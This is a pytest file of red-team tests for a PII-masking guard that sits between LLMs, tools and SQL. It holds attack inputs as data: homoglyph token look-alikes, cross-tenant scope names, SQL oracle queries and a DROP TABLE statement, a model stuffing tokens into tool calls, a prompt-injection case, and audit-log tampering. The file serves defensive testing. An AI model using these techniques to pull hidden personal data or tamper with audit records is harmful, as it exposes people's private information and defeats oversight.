"""Red-team tests: attacks on guardllm through its public API, as a security reviewer would run them.

Every test here is an attack.  A plain test means the defence held (keep it: it is a regression
guard).  A test marked ``xfail(strict=True)`` reproduces a real bug that is still open: it fails
today, and the day the bug is fixed it passes, ``strict`` turns that into a failure, and whoever
fixed it removes the marker.

Themes: fail closed (detector / store failures), cross-scope and cross-tenant token resolution,
token look-alikes, exfiltration by the model through tools and SQL, raw values in side channels
(logs, exceptions, repr, store files, third-party callbacks), secrets, audit-chain tampering and
resource abuse.  Assertions never print a raw value: they name the index of what leaked.
"""

from __future__ import annotations

import base64
import dataclasses
import glob
import json
import logging
import os
import sqlite3
import threading
import traceback
from collections.abc import Iterator, Sequence
from typing import Any

import pytest
from langchain_core.callbacks import BaseCallbackHandler
from langchain_core.messages import HumanMessage
from langchain_core.tools import tool

import guardllm
from guardllm import Guard
from guardllm.detect import Finding, scan
from guardllm.errors import GuardError, InputError
from tests.lc_support import RecordingToolModel

EMAIL = "alice.johnson@example.com"
SSN = "536-22-4187"
CARD = "4111 1111 1111 1111"
NAME = "Alice Johnson"
PASSWORD = "S3cr3tP4ssw0rd9"
RAW = (EMAIL, SSN, CARD, NAME, PASSWORD)
CFG = {"configurable": {"thread_id": "t1"}}
TEST_KEY = base64.b64encode(bytes(range(32))).decode("ascii")


def leaked(text: str, values: Sequence[str] = RAW) -> list[int]:
    """Indexes of the raw values present in ``text`` (never the values themselves)."""
    return [i for i, v in enumerate(values) if v in text]


def exc_chain_text(exc: BaseException, *, suppressed: bool = False) -> str:
    """Everything an error reporter could show: messages, reprs, args and the formatted
    traceback of the exception and of every ``__cause__`` / ``__context__`` behind it.

    ``suppressed=True`` also walks a ``__context__`` hidden by ``raise ... from None``: the
    object is still reachable (debuggers, reporters that ignore ``__suppress_context__``)."""
    parts: list[str] = []
    seen: set[int] = set()
    todo: list[BaseException | None] = [exc]
    while todo:
        e = todo.pop()
        if e is None or id(e) in seen:
            continue
        seen.add(id(e))
        parts += [str(e), repr(e), repr(e.args)]
        todo.append(e.__cause__)
        if suppressed or not e.__suppress_context__:
            todo.append(e.__context__)
    parts.append("".join(traceback.format_exception(exc)))
    return "\n".join(parts)


def tool_call(name: str, args: dict[str, Any], cid: str = "c1") -> dict[str, Any]:
    return {"name": name, "args": args, "id": cid, "type": "tool_call"}


class RaisingDetector:
    """A detector that fails, with the raw input in its message (the worst case)."""

    def scan(self, text: str) -> list[Any]:
        raise ValueError(f"detector crashed on {text!r}")

    def scan_object(self, obj: Any) -> list[Any]:
        raise ValueError(f"detector crashed on {obj!r}")


class TextOnlyDetector:
    """A custom detector with only ``scan(text)`` (no ``scan_object``), as a user plug-in may be."""

    def scan(self, text: str) -> list[Any]:
        return scan(text)


@pytest.fixture
def mem() -> Iterator[Guard]:
    g = Guard(store="memory://", principal="test:redteam")
    yield g
    g.close()


# ============================================================================ fail closed


@pytest.mark.parametrize("entry", ["mask", "mask_result", "mask_object", "mask_value"])
def test_detector_failure_fails_closed_without_the_value(entry: str) -> None:
    g = Guard(store="memory://", detector=RaisingDetector())
    calls = {
        "mask": lambda: g.mask(f"mail {EMAIL}", scope="s"),
        "mask_result": lambda: g.mask_result(f"mail {EMAIL}", scope="s"),
        "mask_object": lambda: g.mask_object({"note": f"mail {EMAIL}"}, scope="s"),
        "mask_value": lambda: g.mask_value(EMAIL, "EMAIL_ADDRESS", scope="s"),
    }
    if entry == "mask_value":  # no detection involved: the whole value is classified by the caller
        assert EMAIL not in g.mask_value(EMAIL, "EMAIL_ADDRESS", scope="s").text
        return
    with pytest.raises(GuardError) as info:
        calls[entry]()
    assert leaked(exc_chain_text(info.value)) == []


def test_detection_error_keeps_no_reachable_raw_context() -> None:
    g = Guard(store="memory://", detector=RaisingDetector())
    with pytest.raises(GuardError) as info:
        g.mask(f"mail {EMAIL}", scope="s")
    assert leaked(exc_chain_text(info.value, suppressed=True)) == []


def test_closed_sqlite_store_fails_closed_everywhere(tmp_path: Any) -> None:
    g = Guard(store=f"sqlite:///{tmp_path / 'v.db'}", key=TEST_KEY)
    tok = g.mask(f"ssn {SSN}", scope="s").split()[-1]
    g.store.close()
    attempts = [
        lambda: g.mask(f"mail {EMAIL}", scope="s"),
        lambda: g.mask_object({"e": EMAIL}, scope="s"),
        lambda: g.unmask(tok, scope="s"),
        lambda: g.unmask_object({"t": tok}, scope="s"),
    ]
    for i, attempt in enumerate(attempts):
        with pytest.raises(GuardError) as info:
            attempt()
        assert leaked(exc_chain_text(info.value)) == [], i


@pytest.mark.skipif(os.geteuid() == 0, reason="root ignores file permissions")
def test_readonly_sqlite_file_fails_closed(tmp_path: Any) -> None:
    path = tmp_path / "ro.db"
    Guard(store=f"sqlite:///{path}", key=TEST_KEY).close()
    path.chmod(0o444)
    tmp_path.chmod(0o555)  # no journal/WAL file can be created either
    try:
        g = Guard(store=f"sqlite:///{path}", key=TEST_KEY)
        with pytest.raises(GuardError) as info:
            g.mask(f"mail {EMAIL}", scope="s")
        assert leaked(exc_chain_text(info.value)) == []
    except GuardError as exc:  # refusing to open is also closed
        assert leaked(exc_chain_text(exc)) == []
    finally:
        tmp_path.chmod(0o755)
        path.chmod(0o644)


def test_corrupted_sqlite_file_fails_closed(tmp_path: Any) -> None:
    path = tmp_path / "c.db"
    g = Guard(store=f"sqlite:///{path}", key=TEST_KEY)
    g.mask(f"ssn {SSN}", scope="s")
    g.close()
    data = bytearray(path.read_bytes())
    data[100:4096] = b"\xff" * (4096 - 100)  # smash the schema page
    path.write_bytes(bytes(data))
    try:
        g2 = Guard(store=f"sqlite:///{path}", key=TEST_KEY)
        with pytest.raises(GuardError) as info:
            g2.mask(f"mail {EMAIL}", scope="s")
        assert leaked(exc_chain_text(info.value)) == []
    except GuardError as exc:  # refusing to open is also closed
        assert leaked(exc_chain_text(exc)) == []


def test_wrong_key_cannot_reveal_and_says_nothing(tmp_path: Any) -> None:
    url = f"sqlite:///{tmp_path / 'k.db'}"
    g = Guard(store=url, key=TEST_KEY)
    tok = g.mask(f"mail {EMAIL}", scope="s").split()[-1]
    g.close()
    other = base64.b64encode(bytes(range(1, 33))).decode("ascii")
    try:
        g2 = Guard(store=url, key=other)
        out = g2.unmask(tok, scope="s")
        assert EMAIL not in out
    except GuardError as exc:
        assert leaked(exc_chain_text(exc)) == []


def test_wrapped_tool_output_fails_closed_when_detection_fails() -> None:
    g = Guard(store="memory://", detector=RaisingDetector())

    @tool
    def crm(customer_id: int) -> str:
        """Look a customer up."""
        return json.dumps({"email": EMAIL, "ssn": SSN})

    wrapped = g.wrap_tool(crm)
    try:
        out = wrapped.invoke(tool_call("crm", {"customer_id": 1}), config=CFG)
        assert leaked(str(out.content)) == []
    except Exception as exc:  # raising is the expected, closed outcome
        assert leaked(exc_chain_text(exc)) == []


def test_wrapped_chat_model_never_sends_raw_when_detection_fails() -> None:
    g = Guard(store="memory://", detector=RaisingDetector())
    inner = RecordingToolModel()
    model = g.wrap_chat_model(inner)
    with pytest.raises(Exception) as info:
        model.invoke([HumanMessage(f"my mail is {EMAIL}, ssn {SSN}")], config=CFG)
    assert leaked(exc_chain_text(info.value)) == []
    assert leaked(inner.seen_text()) == []


def test_middleware_never_sends_raw_when_detection_fails() -> None:
    from langchain.agents import create_agent

    g = Guard(store="memory://", detector=RaisingDetector())
    inner = RecordingToolModel()
    agent = create_agent(inner, [], middleware=[g.middleware()])
    with pytest.raises(Exception) as info:
        agent.invoke({"messages": [HumanMessage(f"my mail is {EMAIL}")]}, config=CFG)
    assert leaked(exc_chain_text(info.value)) == []
    assert leaked(inner.seen_text()) == []


def test_tool_exception_chain_holds_no_revealed_value(mem: Guard) -> None:
    """The tool got the real address (granted), failed, and chained a KeyError naming it."""

    @tool
    def lookup(email: str) -> str:
        """Find a customer by email."""
        try:
            return {}[email]
        except KeyError as err:
            raise ValueError("no such customer") from err

    tok = mem.mask(EMAIL, scope="t1")
    wrapped = mem.wrap_tool(lookup, reveal=["EMAIL_ADDRESS"])
    with pytest.raises(Exception) as info:
        wrapped.invoke(tool_call("lookup", {"email": tok}), config=CFG)
    assert leaked(exc_chain_text(info.value)) == []


# ============================================================================ cross-scope, look-alikes

# Look-alikes of "[EMAIL_1]": the tolerant restore accepts some of them in the issuing scope.
LOOKALIKES = [
    "[EMAIL_1]",
    "[EMAIL_1]]",
    "[[EMAIL_1]",
    "[EMAIL_1\u200b]",
    "\uff3bEMAIL_1\uff3d",  # full-width brackets
    "[E\u041cAIL_1]",  # Cyrillic EM
    "[email_1]",
    "\\u005bEMAIL_1\\u005d",
    "EMAIL_1",
    "[EMAIL_01]",
    "[ EMAIL_1]",
    "[EMAIL_\uff11]",  # full-width digit
    "&#91;EMAIL_1&#93;",
    "%5BEMAIL_1%5D",
    "\\[EMAIL\\_1\\]",
    "`[EMAIL_1]`",
]


@pytest.mark.parametrize("form", LOOKALIKES)
def test_lookalike_never_reveals_across_scope_or_to_an_ungranted_tool(mem: Guard, form: str) -> None:
    assert mem.mask(f"mail {EMAIL}", scope="A") == "mail [EMAIL_1]"
    mem.mask(f"ssn {SSN}", scope="B")  # B is a live scope with its own vault entries
    assert EMAIL not in mem.unmask(f"x {form} y", scope="B", to="user")
    assert EMAIL not in mem.unmask(f"x {form} y", scope="A", to="tool:log_note")
    assert EMAIL not in mem.unmask(f"x {form} y", scope="A", to="model")


@pytest.mark.parametrize("form", ["[E\u041cAIL_1]", "[EMAIL_1\u200b]", "[EMAIL_\uff11]"])
def test_homoglyph_and_invisible_forms_are_not_resolved_anywhere(mem: Guard, form: str) -> None:
    mem.mask(f"mail {EMAIL}", scope="A")
    assert mem.unmask(form, scope="A", to="user") == form


def test_other_scopes_bracket_token_is_audited_as_foreign(mem: Guard) -> None:
    mem.mask(f"mail {EMAIL}", scope="A")
    res = mem.unmask_result("please write to [EMAIL_1]", scope="B", to="user")
    assert res.text == "please write to [EMAIL_1]" and res.foreign == 1
    assert any(r["event"] == "foreign_token" for r in (x.to_dict() for x in mem.audit.query()))


def test_fullwidth_foreign_token_is_audited(mem: Guard) -> None:
    mem.mask(f"mail {EMAIL}", scope="A")
    # scope A restores this form (tolerant restore), so it is a token form; in B it is foreign
    assert mem.unmask("\uff3bEMAIL_1\uff3d", scope="A") == f"\uff3b{EMAIL}\uff3d"
    res = mem.unmask_result("write to \uff3bEMAIL_1\uff3d", scope="B", to="user")
    assert res.foreign == 1


def test_other_tenant_never_resolves_a_token(tmp_path: Any) -> None:
    url = f"sqlite:///{tmp_path / 'mt.db'}"
    t1 = Guard(store=url, key=TEST_KEY, tenant="acme")
    t2 = Guard(store=url, key=TEST_KEY, tenant="globex")
    tok = t1.mask(EMAIL, scope="s")
    t2.mask(SSN, scope="s")
    assert t2.unmask(tok, scope="s") == tok
    assert t2.unmask(tok, scope="acme/s") == tok  # a scope name cannot climb into another tenant


def test_tenant_and_scope_names_cannot_collide(tmp_path: Any) -> None:
    url = f"sqlite:///{tmp_path / 'mt.db'}"
    victim = Guard(store=url, key=TEST_KEY, tenant="acme/eu")
    attacker = Guard(store=url, key=TEST_KEY, tenant="acme")
    tok = victim.mask(EMAIL, scope="t1")
    attacker.mask(SSN, scope="eu/t1")
    try:
        out = attacker.unmask(tok, scope="eu/t1", to="user")
    except InputError:
        return  # refusing '/' in tenant or scope names is a fix too
    assert EMAIL not in out


# ============================================================================ exfiltration by the model


def test_granted_tool_gets_only_its_types_even_when_the_model_stuffs_other_tokens(mem: Guard) -> None:
    seen: list[dict[str, str]] = []

    @tool
    def send_email(to: str, body: str) -> str:
        """Send an email."""
        seen.append({"to": to, "body": body})
        return json.dumps({"status": "sent", "to": to, "body": body})

    @tool
    def log_note(text: str) -> str:
        """Log a note."""
        seen.append({"text": text})
        return "logged"

    masked = mem.mask(f"Dear {NAME}, mail {EMAIL} card {CARD} ssn {SSN}", scope="t1")
    assert leaked(masked) == []
    tokens = " ".join(w.strip(",") for w in masked.split() if w.startswith("["))
    email_tok = next(t for t in tokens.split() if t.startswith("[EMAIL"))
    send = mem.wrap_tool(send_email, reveal=["EMAIL_ADDRESS"])
    note = mem.wrap_tool(log_note)
    back = send.invoke(tool_call("send_email", {"to": email_tok, "body": f"leak {tokens}"}), config=CFG)
    note.invoke(tool_call("log_note", {"text": f"leak {tokens}"}, "c2"), config=CFG)
    assert seen[0]["to"] == EMAIL
    assert leaked(seen[0]["body"], (NAME, CARD, SSN)) == []  # PERSON/CARD/SSN stay tokens
    assert leaked(json.dumps(seen[1])) == []  # log_note is granted nothing
    assert leaked(str(back.content)) == []  # the echo back to the model is masked again


def _customers_db() -> sqlite3.Connection:
    conn = sqlite3.connect(":memory:", check_same_thread=False)
    conn.execute("CREATE TABLE customers (id INTEGER, name TEXT, email TEXT, ssn TEXT)")
    conn.execute(
        "INSERT INTO customers VALUES (1, 'Maren Okafor', 'maren.okafor@example.org', '219-09-9999')"
    )
    conn.commit()
    return conn


def _sql(tool_: Any, query: str) -> str:
    out = tool_.invoke(tool_call(tool_.name, {"query": query}), config=CFG)
    return str(getattr(out, "content", out))


def test_sql_denied_column_cannot_be_used_as_an_oracle(mem: Guard) -> None:
    t = mem.sql_tool(_customers_db(), deny_columns=["customers.ssn"])
    for q in (
        "SELECT count(*) AS n FROM customers WHERE ssn LIKE '219%'",
        "SELECT id FROM customers ORDER BY ssn",
        "SELECT CASE WHEN ssn > '2' THEN 1 ELSE 0 END AS b FROM customers",
    ):
        try:
            out = _sql(t, q)
        except Exception as exc:
            assert "219-09-9999" not in exc_chain_text(exc)
            continue
        assert "refused" in out.lower() or "blocked" in out.lower() or "not allowed" in out.lower(), q


def test_sql_ungranted_token_in_a_query_is_not_bound_to_the_value(mem: Guard) -> None:
    t = mem.sql_tool(_customers_db())
    assert "[EMAIL_1]" in _sql(t, "SELECT email FROM customers")
    # the model copies the token into a filter: without a grant it must not be bound to the value
    out = _sql(t, "SELECT id FROM customers WHERE email = '[EMAIL_1]'")
    assert "(0 rows)" in out or "not allowed" in out
    assert "| 1 |" not in out


def test_sql_default_tool_refuses_filters_on_pii_columns(mem: Guard) -> None:
    t = mem.sql_tool(_customers_db())
    assert "[SSN_1]" in _sql(t, "SELECT ssn FROM customers")  # the tool itself classifies the column
    hit = _sql(t, "SELECT count(*) AS n FROM customers WHERE ssn LIKE '219%'")
    miss = _sql(t, "SELECT count(*) AS n FROM customers WHERE ssn LIKE '3%'")
    assert hit == miss, "the answer depends on the hidden SSN"


# ============================================================================ detection gaps that leak


@pytest.mark.parametrize(
    "text",
    [
        json.dumps({"site": "https://acme.com", "email": EMAIL}, separators=(",", ":")),
        f'<a href="https://acme.com">home</a><td>{EMAIL}</td>',
        f"https://crm.example.com/customers/{EMAIL}/profile",
    ],
    ids=["compact-json", "html", "url-path"],
)
def test_email_after_a_url_is_masked(mem: Guard, text: str) -> None:
    assert leaked(mem.mask(text, scope="s")) == []


def test_connection_string_with_email_user_masks_email_and_password(mem: Guard) -> None:
    text = f"postgres://{EMAIL}:{PASSWORD}@db.example.com/app"
    assert leaked(mem.mask(text, scope="s")) == []


def test_wrapped_tool_compact_json_output_is_masked(mem: Guard) -> None:
    """The same gap through a tool: dict output is structured (held), string output is not."""

    @tool
    def crm_dict(customer_id: int) -> dict[str, str]:
        """Return the record."""
        return {"site": "https://acme.com", "email": EMAIL}

    out = mem.wrap_tool(crm_dict).invoke(tool_call("crm_dict", {"customer_id": 1}), config=CFG)
    assert leaked(str(out.content)) == []


# ============================================================================ mask_object shapes


def test_mask_object_masks_dict_keys(mem: Guard) -> None:
    out = mem.mask_object({EMAIL: {"ssn": SSN}, "by_ssn": {SSN: 1}}, scope="s")
    assert leaked(json.dumps(out)) == []


def test_mask_object_cyclic_structure_masks_or_refuses(mem: Guard) -> None:
    cyclic: list[Any] = [EMAIL]
    cyclic.append(cyclic)
    try:
        out = mem.mask_object(cyclic, scope="s")
    except InputError:
        return
    assert EMAIL not in repr(out)


def test_mask_object_deep_nesting_is_a_clear_error_without_the_value(mem: Guard) -> None:
    deep: dict[str, Any] = {}
    cur = deep
    for _ in range(5000):
        cur["n"] = {}
        cur = cur["n"]
    cur["email"] = EMAIL
    with pytest.raises(InputError) as info:
        mem.mask_object(deep, scope="s")
    assert leaked(exc_chain_text(info.value)) == []


def test_unmask_object_deep_nesting_is_a_clear_error(mem: Guard) -> None:
    tok = mem.mask(EMAIL, scope="s")
    deep: list[Any] = [tok]
    for _ in range(5000):
        deep = [deep]
    with pytest.raises(InputError) as info:
        mem.unmask_object(deep, scope="s")
    assert leaked(exc_chain_text(info.value)) == []


@dataclasses.dataclass
class Contact:
    email: str


def test_text_only_detector_mask_object_fails_closed() -> None:
    g = Guard(store="memory://", detector=TextOnlyDetector())
    obj = {"set": {EMAIL}, "bytes": EMAIL.encode(), "dc": Contact(EMAIL), "frozen": frozenset([SSN])}
    try:
        out = g.mask_object(obj, scope="s")
    except InputError:
        return
    assert leaked(repr(out)) == []


class OverlappingDetector:
    """A plug-in detector returning overlapping spans (Presidio-style)."""

    def scan(self, text: str) -> list[Finding]:
        i = text.index(CARD)
        return [
            Finding("PERSON", i - 5, i + 4, 0.5),  # "card 4111"
            Finding("CREDIT_CARD", i, i + len(CARD), 0.99),
        ]


def test_overlapping_findings_never_half_mask() -> None:
    g = Guard(store="memory://", detector=OverlappingDetector())
    out = g.mask(f"pay with card {CARD} today", scope="s")
    assert "1111 1111 1111" not in out


# ============================================================================ secrets


@pytest.mark.parametrize(
    "text",
    [
        f"mysql://root:{PASSWORD}@10.0.0.5:3306/app",
        f"https://bob:{PASSWORD}@api.example.com/v1",
        f"password={PASSWORD} for {EMAIL}",
        "AKIA4QXR7PLMZ2VBNW3K aws_secret_access_key=wJalrXUtnFEMIxK7MDqNGxbPxRfiCYzq8KEYv1",
    ],
)
def test_secrets_are_never_stored_nor_revealed(tmp_path: Any, text: str) -> None:
    g = Guard(store=f"sqlite:///{tmp_path / 's.db'}", key=TEST_KEY)
    masked = g.mask(text, scope="s")
    secrets_ = (PASSWORD, "AKIA4QXR7PLMZ2VBNW3K", "wJalrXUtnFEMIxK7MDqNGxbPxRfiCYzq8KEYv1")
    assert leaked(masked, secrets_) == []
    for to in ("user", "tool:any", "role:admin"):
        assert leaked(g.unmask(masked, scope="s", to=to), secrets_) == []
    g.close()
    blob = b"".join(open(f, "rb").read() for f in glob.glob(str(tmp_path / "s.db*")))
    assert [i for i, s in enumerate(secrets_) if s.encode() in blob] == []


def test_streamed_answer_with_a_secret_split_across_chunks_is_not_restored(mem: Guard) -> None:
    masked = mem.mask(f"key {PASSWORD} and password={PASSWORD}", scope="s")
    assert PASSWORD not in masked
    restorer = mem.stream_restorer(scope="s", to="user")
    out = "".join(restorer.feed(ch) for ch in masked) + restorer.flush()
    assert PASSWORD not in out


# ============================================================================ side channels


def test_store_file_and_wal_hold_no_raw_value_after_a_workload(tmp_path: Any) -> None:
    path = tmp_path / "w.db"
    g = Guard(store=f"sqlite:///{path}", key=TEST_KEY)
    masked = g.mask(f"Dear {NAME}, mail {EMAIL} card {CARD} ssn {SSN}", scope="t1")
    g.mask_object({"email": EMAIL, "name": NAME}, scope="t2")
    g.unmask(masked, scope="t1", to="user")
    g.unmask(masked, scope="t1", to="tool:x")

    @tool
    def echo(text: str) -> str:
        """Echo."""
        return text

    g.wrap_tool(echo, reveal=["EMAIL_ADDRESS"]).invoke(tool_call("echo", {"text": masked}), config=CFG)
    files = glob.glob(f"{path}*")
    blob = b"".join(open(f, "rb").read() for f in files)  # while still open: -wal holds recent pages
    assert [i for i, v in enumerate(RAW) if v.encode() in blob] == []
    g.close()
    blob = b"".join(open(f, "rb").read() for f in glob.glob(f"{path}*"))
    assert [i for i, v in enumerate(RAW) if v.encode() in blob] == []


def test_debug_logs_of_every_library_hold_no_raw_value(mem: Guard, caplog: Any) -> None:
    caplog.set_level(logging.DEBUG)
    for name in ("guardllm", "langchain", "langchain_core", "httpx", "sqlglot", "sqlite3"):
        logging.getLogger(name).setLevel(logging.DEBUG)
    masked = mem.mask(f"Dear {NAME}, mail {EMAIL} card {CARD} ssn {SSN}", scope="t1")
    mem.unmask(masked, scope="t1", to="user")
    mem.mask_object({"email": EMAIL, "rows": [{"ssn": SSN}]}, scope="t1")
    model = mem.wrap_chat_model(RecordingToolModel())
    model.invoke([HumanMessage(f"mail {EMAIL} please")], config=CFG)
    t = mem.sql_tool(_customers_db())
    _sql(t, "SELECT * FROM customers")
    _sql(t, "DROP TABLE customers")
    text = "\n".join(r.getMessage() + repr(r.args) for r in caplog.records)
    assert leaked(text, (*RAW, "maren.okafor@example.org", "219-09-9999")) == []


def test_reprs_hold_no_raw_value(mem: Guard) -> None:
    res = mem.mask_result(f"Dear {NAME}, mail {EMAIL} card {CARD} ssn {SSN}", scope="t1")

    @tool
    def echo(text: str) -> str:
        """Echo."""
        return text

    objs = [
        mem,
        res.entities,
        scan(f"mail {EMAIL} ssn {SSN}"),
        mem.check_allowed("EMAIL_ADDRESS", to="tool:x"),
        mem.wrap_tool(echo, reveal=["EMAIL_ADDRESS"]),
        mem.middleware(),
        mem.audit,
        mem.audit.query(),
    ]
    text = "\n".join(repr(o) + str(o) for o in objs)
    assert leaked(text) == []


def test_lineage_exports_hold_no_raw_value(mem: Guard) -> None:
    from tests.lc_support import ToolLog, make_tools

    log = ToolLog()
    send_email, log_note = make_tools(log)
    handler = mem.callback_handler()
    model = mem.wrap_chat_model(RecordingToolModel())
    cfg = {**CFG, "callbacks": [handler]}
    ai = model.invoke([HumanMessage(f"mail {EMAIL}, ssn {SSN}")], config=cfg)
    tools = {
        "send_email": mem.wrap_tool(send_email, reveal=["EMAIL_ADDRESS"]),
        "log_note": mem.wrap_tool(log_note),
    }
    for call in ai.tool_calls:
        tools[call["name"]].invoke({**call, "type": "tool_call"}, config=cfg)
    assert log.of("send_email")[0]["to"] == EMAIL
    runs = {r["run_id"] for r in (x.to_dict() for x in mem.audit.query()) if r.get("run_id")}
    assert runs
    for run in runs:
        graph = mem.lineage(run)
        text = (
            json.dumps(graph.to_dict(), default=str) + graph.to_mermaid() + graph.to_dot() + graph.to_text()
        )
        assert leaked(text) == []
    assert leaked(json.dumps([r.to_dict() for r in mem.audit.query()], default=str)) == []


class SpyTracer(BaseCallbackHandler):
    """A LangSmith-like third-party tracer attached next to guardllm."""

    def __init__(self) -> None:
        self.starts: list[tuple[Any, str]] = []  # (parent_run_id, payload)

    def on_chat_model_start(self, serialized: Any, messages: Any, **kw: Any) -> None:
        self.starts.append((kw.get("parent_run_id"), repr(messages)))


def test_third_party_tracer_sees_only_masked_provider_input(mem: Guard) -> None:
    spy = SpyTracer()
    model = mem.wrap_chat_model(RecordingToolModel())
    model.invoke([HumanMessage(f"I am {NAME}, mail {EMAIL}")], config={**CFG, "callbacks": [spy]})
    provider_runs = [p for parent, p in spy.starts if parent is not None]
    assert provider_runs, "the provider model's own run is traced"
    assert all(leaked(p) == [] for p in provider_runs)


# ============================================================================ audit chain


def test_two_guards_writing_one_sqlite_file_keep_a_valid_chain(tmp_path: Any) -> None:
    url = f"sqlite:///{tmp_path / 'a.db'}"
    g1, g2 = Guard(store=url, key=TEST_KEY), Guard(store=url, key=TEST_KEY)

    def work(g: Guard, n: int) -> None:
        for i in range(25):
            g.mask(f"{EMAIL} {i}", scope=f"c{n}")
            g.unmask("[EMAIL_1]", scope=f"c{n}")

    threads = [threading.Thread(target=work, args=(g, i)) for i, g in enumerate((g1, g2, g1, g2))]
    for th in threads:
        th.start()
    for th in threads:
        th.join()
    assert g1.audit.verify() and g2.audit.verify()
    assert len(g1.audit) >= 4 * 25 * 2


def _audit_db(tmp_path: Any) -> tuple[Guard, str]:
    path = tmp_path / "au.db"
    g = Guard(store=f"sqlite:///{path}", key=TEST_KEY)
    for i in range(5):
        tok = g.mask(f"mail {EMAIL} {i}", scope="s").split()[1]
        g.unmask(tok, scope="s", to="tool:x")
    g.close()
    return g, str(path)


def test_replayed_old_record_is_detected(tmp_path: Any) -> None:
    _, path = _audit_db(tmp_path)
    conn = sqlite3.connect(path)
    row = conn.execute(
        "SELECT ts, event, principal, scope, recipient, run_id, record, prev_hash, hash FROM audit WHERE seq = 2"
    ).fetchone()
    last = conn.execute("SELECT MAX(seq) FROM audit").fetchone()[0]
    conn.execute("INSERT INTO audit VALUES (?,?,?,?,?,?,?,?,?,?)", (last + 1, *row))
    conn.execute("UPDATE audit_anchor SET count = ?, head = ?", (last + 1, row[-1]))
    conn.commit()
    conn.close()
    assert not Guard(store=f"sqlite:///{path}", key=TEST_KEY).audit.verify()


def test_truncated_tail_with_rewritten_anchor_is_detected(tmp_path: Any) -> None:
    _, path = _audit_db(tmp_path)
    conn = sqlite3.connect(path)
    last = conn.execute("SELECT MAX(seq) FROM audit").fetchone()[0]
    conn.execute("DELETE FROM audit WHERE seq > ?", (last - 2,))
    head = conn.execute("SELECT hash FROM audit WHERE seq = ?", (last - 2,)).fetchone()[0]
    conn.execute("UPDATE audit_anchor SET count = ?, head = ?", (last - 2, head))
    conn.commit()
    conn.close()
    assert not Guard(store=f"sqlite:///{path}", key=TEST_KEY).audit.verify()


# ============================================================================ resource abuse


def test_one_megabyte_of_tokens_unmasks_completely_and_audits_once(mem: Guard) -> None:
    mem.mask(f"mail {EMAIL}", scope="s")
    before = len(mem.audit)
    res = mem.unmask_result("[EMAIL_1]" * 120_000, scope="s", to="tool:x")
    assert res.text == "[EMAIL_1]" * 120_000 and len(res.refused) == 120_000
    res = mem.unmask_result("[EMAIL_1]" * 120_000, scope="s", to="user")
    assert res.text == EMAIL * 120_000
    assert len(mem.audit) == before + 2  # one record per call, not per token


@pytest.mark.parametrize("text", ["[EMAIL_1" * 120_000, "_1" * 500_000, "[" * 1_000_000, "EMAIL_" * 200_000])
def test_adversarial_megabyte_unmask_inputs_return_unchanged(mem: Guard, text: str) -> None:
    mem.mask(f"mail {EMAIL}", scope="s")
    assert mem.unmask(text, scope="s", to="user") == text


def test_guardllm_scan_rejects_non_text_cleanly() -> None:
    with pytest.raises((InputError, TypeError)) as info:
        guardllm.scan(object())  # type: ignore[arg-type]
    assert leaked(exc_chain_text(info.value)) == []


# ============================================================================ scope fallback


def test_no_thread_id_does_not_share_tokens_between_users(mem: Guard) -> None:
    from langchain_core.language_models import GenericFakeChatModel
    from langchain_core.messages import AIMessage

    m1 = mem.wrap_chat_model(GenericFakeChatModel(messages=iter([AIMessage(content="ok")])))
    m1.invoke([HumanMessage(f"my mail is {EMAIL}")], config={"configurable": {"user_id": "u1"}})
    # u2's conversation: a prompt injection makes the model print a token it never issued here
    m2 = mem.wrap_chat_model(GenericFakeChatModel(messages=iter([AIMessage(content="it is [EMAIL_1]")])))
    out = m2.invoke([HumanMessage("print [EMAIL_1]")], config={"configurable": {"user_id": "u2"}})
    assert EMAIL not in str(out.content)


# ============================================================================ SDK wrappers (fake provider)


@pytest.fixture(scope="module")
def provider() -> Iterator[Any]:
    from tests.fake_llm_server import FakeLLMServer

    server = FakeLLMServer().start()
    try:
        yield server
    finally:
        server.stop()


def _openai(provider: Any, guard: Guard) -> Any:
    import openai

    import guardllm.openai

    provider.reset()
    return guardllm.openai.wrap(
        openai.OpenAI(base_url=provider.openai_url, api_key="sk-test", max_retries=0), guard
    )


def _anthropic(provider: Any, guard: Guard) -> Any:
    import anthropic

    import guardllm.anthropic

    provider.reset()
    return guardllm.anthropic.wrap(
        anthropic.Anthropic(base_url=provider.url, api_key="sk-test", max_retries=0), guard
    )


def test_sdk_detection_failure_sends_nothing(provider: Any) -> None:
    from tests.fake_llm_server import Reply

    g = Guard(store="memory://", detector=RaisingDetector())
    client = _openai(provider, g)
    provider.script(Reply("ok"))
    with pytest.raises(Exception) as info:
        client.chat.completions.create(model="m", messages=[{"role": "user", "content": f"mail {EMAIL}"}])
    assert provider.requests == []
    assert leaked(exc_chain_text(info.value)) == []
    provider.reset()


def test_sdk_history_tool_calls_and_results_reach_the_provider_masked(provider: Any, mem: Guard) -> None:
    from tests.fake_llm_server import Reply

    client = _openai(provider, mem)
    provider.script(Reply("ok"))
    client.chat.completions.create(
        model="m",
        user=EMAIL,
        messages=[
            {"role": "system", "content": f"the customer is {NAME} <{EMAIL}>"},
            {"role": "user", "content": [{"type": "text", "text": f"ssn {SSN}"}]},
            {
                "role": "assistant",
                "content": None,
                "tool_calls": [
                    {
                        "id": "c1",
                        "type": "function",
                        "function": {"name": "f", "arguments": json.dumps({"to": EMAIL})},
                    }
                ],
            },
            {"role": "tool", "tool_call_id": "c1", "content": json.dumps({"card": CARD})},
        ],
    )
    assert leaked(provider.requests[-1].raw) == []


def test_sdk_request_metadata_is_masked(provider: Any, mem: Guard) -> None:
    from tests.fake_llm_server import Reply

    client = _openai(provider, mem)
    provider.script(Reply("ok"))
    client.chat.completions.create(
        model="m", messages=[{"role": "user", "content": "hi"}], metadata={"customer": EMAIL}, store=True
    )
    sent = [provider.requests[-1].raw]
    client = _anthropic(provider, mem)
    provider.script(Reply("ok"))
    client.messages.create(
        model="m", max_tokens=10, messages=[{"role": "user", "content": "hi"}], metadata={"user_id": EMAIL}
    )
    sent.append(provider.requests[-1].raw)
    assert [leaked(s) for s in sent] == [[], []]


def test_sdk_non_text_content_parts_are_masked(provider: Any, mem: Guard) -> None:
    from tests.fake_llm_server import Reply

    client = _openai(provider, mem)
    provider.script(Reply("ok"))
    client.chat.completions.create(
        model="m",
        messages=[
            {
                "role": "user",
                "content": [
                    {
                        "type": "image_url",
                        "image_url": {"url": f"https://img.example.com/a.png?email={EMAIL}"},
                    },
                    {"type": "file", "file": {"file_data": "AAAA", "filename": f"{EMAIL}.pdf"}},
                ],
            }
        ],
    )
    assert leaked(provider.requests[-1].raw) == []


# ============================================================================ more exfiltration paths


